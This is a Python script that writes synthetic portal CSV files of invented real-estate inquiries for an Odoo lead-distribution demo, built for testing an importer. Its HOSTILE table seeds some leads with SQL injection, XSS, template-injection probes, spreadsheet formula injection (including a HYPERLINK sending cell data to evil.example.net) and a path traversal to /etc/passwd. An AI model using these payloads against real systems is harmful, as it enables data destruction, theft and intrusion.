#!/usr/bin/env python3
"""Write the portal files of the demo, always the same ones.

400 inquiries from three portals, each with a layout of its own, and a dozen that
are delivered twice. All people are invented; addresses end in example.com, .org
and .net. Known customers are read from the demo's contacts.
"""

import csv
import io
import random
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
from datetime import datetime, timedelta
from pathlib import Path

DEMO = Path(__file__).resolve().parent.parent / "lead_distribution" / "demo"
NORTH = ["Bilbao", "Santander", "San Sebastián", "Gijón", "A Coruña"]
SOUTH = ["Málaga", "Marbella", "Sevilla", "Granada", "Cádiz", "Almería"]
NORTH_STAFF = {"anna", "boris", "clara", "diego", "elena", "filip"}

#: leads of each kind in each file; the kinds are what the demo's routes ask for
KINDS = {
    "a": dict(vip=4, premium=15, commercial=8, north=62, south=60, other=6),
    "b": dict(premium=10, english=2, north=41, south=50, other=12),
    "c": dict(vip=4, premium=20, english=38, commercial=6, north=15, south=38, other=9),
}
REPEATED = {"a": 6, "b": 4, "c": 2}
SOURCES = {"a": "Casa Directa", "b": "Dom Za Granicą", "c": "Homes Abroad"}
LISTINGS = {
    "north": ["N-1001", "N-1002", "N-1003", "N-1004"],
    "south": ["S-2001", "S-2002", "S-2003", "S-2004"],
    "premium": ["P-3001", "P-3002", "P-3003"],
    "commercial": ["C-4001", "C-4002"],
}
NAMES = {
    "es": (
        "Aitana Benjamín Candela Damián Estíbaliz Fermín Gadea Horacio Irati Jacinto "
        "Leire Macarena Nicanor Olalla Pelayo Quima Rufino Saioa Teófilo Úrsula Ximena",
        "Abascal Bermúdez Cifuentes Dorado Escribano Feijoo Goñi Huerta Izaguirre "
        "Jurado Landaluce Mañero Navascués Ordóñez Peñalver Quiroga Retamal Sahagún",
    ),
    "pl": (
        "Agnieszka Bożydar Cecylia Dobrawa Eryk Felicja Gniewomir Honorata Izydor "
        "Jagoda Kajetan Ludwika Mścisław Nadzieja Oskar Przemysław Róża Świętosław",
        "Bączek Ćwiklińska Drzazga Fąfara Gołąb Jaszczółt Kłys Łękawska Miśkiewicz "
        "Nędza Ożóg Pszczoła Rzeźnik Szczęsna Trzmiel Wójtowicz Zięba Żurawska",
    ),
    "en": (
        "Alistair Beatrix Callum Delphine Edwin Fern Graham Harriet Isla Jasper "
        "Keira Lachlan Maeve Neville Orla Percival Rhiannon Silas Tabitha Winifred",
        "Ashdown Birtwhistle Crabtree Dunmore Entwistle Fairclough Grimshaw "
        "Hollingsworth Inglethorpe Keighley Lockhart Mulcahy O'Rourke Penhaligon "
        "Tranter",
    ),
    "de": (
        "Annegret Bernward Dörte Eckhard Friederike Gernot Heidrun Jörg Kirsten Lothar",
        "Bäumler Dünnwald Eßlinger Grünfeld Höfer Krüßmann Möbius Rößler Schönborn",
    ),
    "fr": (
        "Amélie Bastien Clémence Désiré Élodie Fabrice Gwenaël Hélène Ignace Jocelyne",
        "Beaufrère Châtelain Desnoyers Évrard Fauché Guérin Hébert Lefèvre Ménard",
    ),
}
SUBJECTS = {
    "es": ["Solicito información", "Visita este fin de semana", "¿Sigue disponible?"],
    "pl": ["Pytanie o ofertę", "Proszę o kontakt", "Czy oferta jest aktualna?"],
    "en": ["Viewing request", "Is it still available?", "Please call me back"],
    "de": ["Anfrage zum Objekt", "Besichtigungstermin", "Bitte um Rückruf"],
    "fr": ["Demande de visite", "Toujours disponible ?", "Merci de me rappeler"],
}
MESSAGES = {
    "es": [
        "Hola, me interesa este inmueble y quisiera visitarlo. Prefiero por la tarde.",
        "Buenos días: ¿está incluido el garaje? ¿Aceptan mascotas?\n\nUn saludo",
        "Vendemos nuestro piso y buscamos algo mayor; no tenemos prisa.",
    ],
    "pl": [
        "Dzień dobry, szukam mieszkania blisko morza. Proszę dzwonić po 17:00.",
        "Czy cena jest do negocjacji? Interesuje mnie zakup za gotówkę.",
        "Proszę o rzut mieszkania; przylatujemy w przyszłym miesiącu.\nPozdrawiam",
    ],
    "en": [
        "We'd love to see this one. We fly in on Thursday, is Friday morning possible?",
        'My partner says it is "too good to be true", could you send more pictures?',
        "Cash buyer, no chain.\nPlease e-mail rather than ring.",
    ],
    "de": ["Ist die Wohnung barrierefrei? Wir suchen einen Altersruhesitz."],
    "fr": ["Bonjour, l'appartement a-t-il une terrasse ? Nous cherchons pour l'été."],
}
#: what people and robots put into forms: (field, value), one lead each
HOSTILE = {
    "a": [
        ("subject", "'; DROP TABLE crm_lead; --"),
        ("name", "Robert'); DELETE FROM res_partner WHERE ('1'='1"),
        ("message", "<script>alert('hola')</script><b>negrita</b> sin cerrar <i"),
        ("subject", "=cmd|' /C calc'!A0"),
        ("name", '"Comillas" "dobles"; y; puntos; y comas'),
        ("phone", "llámame al seis uno dos, o pregunta por Paco"),
        ("email", "esto no es un correo"),
        ("message", 'Línea 1\r\nLínea 2;con;separadores\r\n\r\n"y comillas"\r\n' * 5),
    ],
    "b": [
        ("message", "<img src=x onerror=alert(1)> {{7*7}} ${7*7} %s %(name)s"),
        ("name", "<h1>Wielki</h1> Klient"),
        ("subject", 'Robert\tTabulator\toraz "cudzysłów"'),
        ("email", "dwa.adresy@example.com; drugi.adres@example.org"),
        ("phone", "+48 (0) 12 3456789012345678901234567890"),
        ("message", "Zażółć gęślą jaźń. " * 1200),
    ],
    "c": [
        ("name", "🏖️🏡 Sunny & Co 👨‍👩‍👧‍👦"),
        ("subject", "مرحبا، هل الشقة متاحة؟ \u202ereversed\u202c"),
        ("name", "שירה בן־דוד"),
        ("message", '=HYPERLINK("http://evil.example.net?x="&A1,"click")\n@SUM(1+1)'),
        ("subject", "-2+3+cmd|' /C notepad'!A0"),
        ("message", '<a href="javascript:alert(document.cookie)">win</a><!-- '),
        ("name", "A" * 400),
        ("subject", "Z̸͎̔a̵͕͌l̶̟̕g̷͍̈o̸̳͝ wants a flat " * 8),
        ("city", "../../../../etc/passwd"),
        ("message", "Lorem ipsum dolor sit amet, " * 1500),
        ("email", '"very.(),:;<>[]\\".VERY"@example.com'),
        ("name", "None"),
    ],
}
NOTATIONS = {
    "ES": ("34", ["{}{}{}", "{} {} {}", "{}.{}.{}", "{}-{}-{}"]),
    "PL": ("48", ["{} {} {}", "{}-{}-{}", "{}{}{}"]),
    "GB": ("44", ["{} {}{}", "{}{}{}"]),
    "IE": ("353", ["{} {} {}"]),
    "US": ("1", ["({}) {}-{}", "{}-{}-{}", "{}.{}.{}"]),
    "DE": ("49", ["{} {} {}", "{}/{}{}"]),
    "FR": ("33", ["{} {} {}"]),
}
#: national numbers, in three groups, without the zero that leads some
NUMBERS = {
    "ES": lambda n: ("622", f"{n // 1000 % 1000:03}", f"{n % 1000:03}"),
    "PL": lambda n: ("512", f"{n // 1000 % 1000:03}", f"{n % 1000:03}"),
    "GB": lambda n: ("7400", f"{n // 1000 % 1000:03}", f"{n % 1000:03}"),
    "IE": lambda n: ("85", f"{n // 10000 % 1000:03}", f"{n % 10000:04}"),
    "US": lambda n: ("212", "555", f"0{100 + n % 100}"),
    "DE": lambda n: ("1512", f"3{n // 1000 % 1000:03}", f"{n % 1000:03}"),
    "FR": lambda n: ("6", f"12 {n // 1000 % 100:02}", f"{n // 100 % 10}0 {n % 100:02}"),
}
LANGUAGE = {"ES": "es", "PL": "pl", "GB": "en", "IE": "en", "US": "en", "DE": "de"}
#: how a country may be written; the portal's own word is unknown to Odoo
COUNTRIES = {
    "ES": ["ES", "ES", "Spain", "España", ""],
    "PL": ["PL", "PL", "Poland", "Polska", ""],
    "GB": ["GB", "United Kingdom"],
    "IE": ["IE", "Ireland"],
    "US": ["US", "United States"],
    "DE": ["DE", "Germany", "Deutschland"],
    "FR": ["FR", "France"],
}


def plain(text):
    text = text.replace("ł", "l").replace("Ł", "L").replace("ß", "ss")
    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()
    return re.sub(r"[^a-z0-9]+", "", text.lower())


def known_customers():
    """The demo's contacts that a lead can be recognised by."""
    found = {}
    for record in ElementTree.parse(DEMO / "res_partner_demo.xml").getroot():
        one = {"advisor": None, "email": "", "phone": "", "city": ""}
        for field in record:
            one[field.get("name")] = field.text or field.get("ref")
        parent = found.get(one.get("parent_id"))
        if parent:
            one["advisor"] = parent["advisor"]
        if one.get("user_id"):
            one["advisor"] = one["user_id"].removeprefix("user_")
        one["country"] = one["country_id"].removeprefix("base.").upper()
        one["country"] = {"UK": "GB"}.get(one["country"], one["country"])
        found[record.get("id")] = one
    return list(found.values())


class Maker:
    def __init__(self, seed=19):
        self.random = random.Random(seed)
        self.number = 100_000
        self.people = {"a": [], "b": [], "c": []}
        self.customers = known_customers()
        self.at = datetime(2026, 1, 5, 8, 0)

    def pick(self, values):
        return self.random.choice(values)

    def chance(self, percent):
        return self.random.random() * 100 < percent

    # people -----------------------------------------------------------------------

    def country_for(self, portal, kind):
        if kind == "english":
            return self.pick(["GB", "GB", "GB", "IE", "US"])
        if kind == "other":
            return self.pick(["DE", "DE", "FR", "PL" if portal == "b" else "ES"])
        return {
            "a": ["ES"] * 9 + ["FR"],
            "b": ["PL"] * 9 + ["DE"],
            "c": ["ES", "DE", "DE", "FR", "PL"],
        }[portal][self.random.randrange(10 if portal != "c" else 5)]

    def person(self, portal, kind):
        country = self.country_for(portal, kind)
        firsts, lasts = NAMES[LANGUAGE.get(country, "fr")]
        first, last = self.pick(firsts.split()), self.pick(lasts.split())
        self.number += self.random.randrange(7, 60)
        address = (
            f"{plain(first)}{self.pick(['.', '_', ''])}{plain(last)}{self.number % 97}"
        )
        return {
            "name": f"{first} {last}",
            "email": f"{address}@example.{self.pick(['com', 'org', 'net'])}",
            "number": NUMBERS[country](self.number),
            "country": country,
        }

    def phone(self, person):
        """The same number is written in another way each time."""
        country = person["country"]
        if "number" not in person:
            return self.rewrite(person["phone"], country)
        code, notations = NOTATIONS[country]
        national = self.pick(notations).format(*person["number"])
        zero = "0" if country in ("GB", "IE", "DE", "FR") else ""
        return self.pick(
            [
                f"+{code} {national}",
                f"+{code}{''.join(person['number'])}".replace(" ", ""),
                f"00{code} {national}",
                f"(+{code}) {national}",
                f"{zero}{national}",
                f" {zero}{national} ",
            ]
        )

    def rewrite(self, phone, country):
        """A customer's number in another notation, always with its country."""
        code = {"NO": "47"}.get(country) or NOTATIONS[country][0]
        digits = re.sub(r"\D", "", phone)
        for prefix in (f"00{code}", code if "+" in phone else "00", "0"):
            if digits.startswith(prefix):
                digits = digits[len(prefix) :]
                break
        return self.pick([f"+{code}{digits}", f"00{code} {digits[:3]} {digits[3:]}"])

    # leads ------------------------------------------------------------------------

    def lead(self, portal, kind, number):
        person = self.person(portal, kind)
        earlier = [p for k, p in self.people[portal] if k == kind]
        if earlier and self.chance(9):
            person = self.pick(earlier)  # the same person again
        self.people[portal].append((kind, person))
        self.at += timedelta(minutes=self.random.randrange(3, 95))
        language = LANGUAGE.get(person["country"], "fr")
        lead = {
            "ref": {
                "a": f"CD-{26000 + number}",
                "b": f"{number:05}/2026",
                "c": f"HA{7000 + number}",
            }[portal],
            "at": self.at,
            "source": SOURCES[portal],
            "subject": self.pick(SUBJECTS[language]),
            "name": person["name"],
            "company": "",
            "email": person["email"],
            "phone": self.phone(person),
            "listing": "",
            "city": "",
            "country": self.pick(COUNTRIES[person["country"]]),
            "budget": self.random.randrange(90, 700) * 1000 if self.chance(60) else "",
            "message": self.pick(MESSAGES[language]),
            "consents": self.pick(
                ["", "CALL", "CALL", "CALL,NEWS", "CALL,SHARE", "NEWS"]
            ),
        }
        if self.chance(15):
            lead["email"] = f"  {lead['email'].upper()} "
        if self.chance(6):
            lead["company"] = f"{person['name'].split()[-1]} Ltd"
        if self.chance(8):
            lead["email"] = ""
        elif self.chance(10):
            lead["phone"] = ""
        self.wish(lead, kind, number)
        return lead

    def wish(self, lead, kind, number):
        """What the lead asks about, which is what makes it this kind."""
        if kind in ("north", "south"):
            cities = NORTH if kind == "north" else SOUTH
            if self.chance(45):
                lead["listing"] = self.pick(LISTINGS[kind])
            elif self.chance(12):
                # a listing nobody here knows, or none any more
                lead["listing"] = self.pick(["N-0999", "X-7777", "ref?", "S 2001"])
            if not lead["listing"] or lead["listing"] not in LISTINGS[kind]:
                lead["city"] = self.pick(cities)
            elif self.chance(50):
                city = self.pick(cities)
                lead["city"] = self.pick([city, city.upper(), plain(city)])
        elif kind == "premium":
            lead["listing"] = self.pick(LISTINGS["premium"])
        elif kind == "commercial":
            lead["listing"] = self.pick(LISTINGS["commercial"])
            if number % 3 == 0:
                lead["city"] = self.pick(NORTH + SOUTH)
        elif kind == "other":
            lead["city"] = self.pick(["", "Madrid", "Valencia", "Lisboa", "Palma"])
            if self.chance(25):
                lead["listing"] = self.pick(["X-7777", "IBZ-12"])
        elif kind == "vip":
            lead["budget"] = self.random.randrange(1000, 2800) * 1000

    def known(self, lead, customer, by_phone):
        """A customer writes: known by the address, or only by the number."""
        lead["name"] = customer["name"]
        lead["country"] = customer["country"]
        lead["company"] = ""
        language = LANGUAGE.get(customer["country"], "en")
        lead["subject"] = self.pick(SUBJECTS[language])
        lead["message"] = self.pick(MESSAGES[language])
        if by_phone or not customer["email"]:
            lead["email"] = ""
            lead["phone"] = self.rewrite(customer["phone"], customer["country"])
        else:
            lead["email"] = self.pick([customer["email"], customer["email"].upper()])
            lead["phone"] = ""

    def make(self):
        files = {}
        for portal, kinds in KINDS.items():
            order = [kind for kind, count in kinds.items() for _ in range(count)]
            self.random.shuffle(order)
            leads = [self.lead(portal, kind, n) for n, kind in enumerate(order, 1)]
            files[portal] = list(zip(order, leads, strict=True))
        self.put_customers(files)
        for portal in files:
            self.put_troubles(portal, files[portal])
        return {portal: self.repeat(portal, pairs) for portal, pairs in files.items()}

    def put_customers(self, files):
        """Each customer once, at the office of the advisor, and some again."""
        places = {"north": [], "south": []}
        for portal in ("a", "b", "c"):
            for kind, lead in files[portal]:
                if kind in places:
                    places[kind].append(lead)
        for spots in places.values():
            self.random.shuffle(spots)
        again = [c for c in self.customers if c["advisor"] in ("anna", "greta", "ines")]
        # the English desk would take what has an English country
        wanted = [
            c for c in self.customers + again[:6] if c["country"] not in ("GB", "IE")
        ]
        for place, customer in enumerate(wanted):
            kind = "north" if customer["advisor"] in NORTH_STAFF else "south"
            self.known(places[kind].pop(), customer, place % 2)
        english = [lead for kind, lead in files["c"] if kind == "english"]
        for place, customer in enumerate(self.customers):
            if customer["country"] in ("GB", "IE"):
                self.known(english.pop(), customer, place % 2)
        self.customer_names = {c["name"] for c in self.customers}

    def put_troubles(self, portal, pairs):
        """Missing fields and hostile strings, never on a customer's lead."""
        free = [lead for kind, lead in pairs if lead["name"] not in self.customer_names]
        self.random.shuffle(free)
        for field, value in HOSTILE[portal]:
            free.pop()[field] = value
        for gone in (["email", "phone"], ["email", "phone"], ["name"], ["name"]):
            free.pop().update(dict.fromkeys(gone, ""))
        free.pop().update(name="", email="", phone="", message="")
        free.pop()["source"] = ""
        free.pop()["country"] = "Atlantis"
        free.pop()["consents"] = "CALL,TELEPATHY"
        self.free = free

    def repeat(self, portal, pairs):
        """Deliver some again: the same reference, a little later in the file."""
        leads = [lead for _kind, lead in pairs]
        again = [
            lead
            for lead in leads[: len(leads) // 2]
            if lead["source"] and lead["name"] not in self.customer_names
        ]
        for lead in self.random.sample(again, REPEATED[portal]):
            copy = dict(lead, subject=f"{lead['subject']} (2)")
            leads.insert(leads.index(lead) + self.random.randrange(1, 40), copy)
        return leads


def spanish(value):
    return (
        f"{value:,}".replace(",", ".") + (",00" if value % 3 else "") if value else ""
    )


def columns_a(lead):
    return {
        "Ref. contacto": lead["ref"],
        "Fecha": lead["at"].strftime("%d/%m/%Y %H:%M"),
        "Portal": lead["source"],
        "Asunto": lead["subject"],
        "Nombre y apellidos": lead["name"],
        "Empresa": lead["company"],
        "Correo electrónico": lead["email"],
        "Teléfono": lead["phone"],
        "Ref. inmueble": lead["listing"],
        "Población": lead["city"],
        "País": lead["country"],
        "Presupuesto": spanish(lead["budget"]),
        "Mensaje": lead["message"],
        "Consentimientos": lead["consents"],
    }


def columns_b(lead):
    first, _space, last = lead["name"].partition(" ")
    prefix = re.match(r"\s*(\(?(?:\+|00)\d{2}\)?)\s*(.*)", lead["phone"])
    code, number = prefix.groups() if prefix else ("", lead["phone"])
    return {
        "Temat": lead["subject"],
        "Treść": lead["message"],
        "Imię": first,
        "Nazwisko": last,
        "Kierunkowy": code.strip("()"),
        "Telefon": number,
        "E-mail": lead["email"],
        "Miejscowość": lead["city"],
        "Kraj": lead["country"],
        "Oferta": lead["listing"],
        "Zgody": lead["consents"],
        "Źródło": lead["source"],
        "Nr zapytania": lead["ref"],
    }


def columns_c(lead):
    return {
        "Source": lead["source"],
        "Inquiry ID": lead["ref"],
        "Received at": lead["at"].isoformat(),
        "Listing": lead["listing"],
        "Email": lead["email"],
        "Phone": lead["phone"],
        "Full name": lead["name"],
        "Company": lead["company"],
        "Title": lead["subject"],
        "Location": lead["city"],
        "Country": lead["country"],
        "Budget (EUR)": lead["budget"],
        "Opt-ins": lead["consents"],
        "Comments": lead["message"],
    }


FILES = {
    "a": (columns_a, "cp1252", {"delimiter": ";", "quoting": csv.QUOTE_MINIMAL}),
    "b": (columns_b, "cp1250", {"delimiter": "\t", "quoting": csv.QUOTE_MINIMAL}),
    "c": (columns_c, "utf-8-sig", {"delimiter": ",", "quoting": csv.QUOTE_ALL}),
}


def main():
    made = Maker().make()
    for portal, (columns, encoding, dialect) in FILES.items():
        text = io.StringIO()
        rows = [columns(lead) for lead in made[portal]]
        writer = csv.DictWriter(text, list(rows[0]), lineterminator="\r\n", **dialect)
        writer.writeheader()
        writer.writerows(rows)
        path = DEMO / f"portal_{portal}.csv"
        # what a portal's old encoding cannot say, it says with a question mark
        path.write_bytes(text.getvalue().encode(encoding, "replace"))
        inquiries = len({lead["ref"] for lead in made[portal]})
        print(f"{path.name}: {len(rows)} rows, {inquiries} inquiries")


if __name__ == "__main__":
    main()
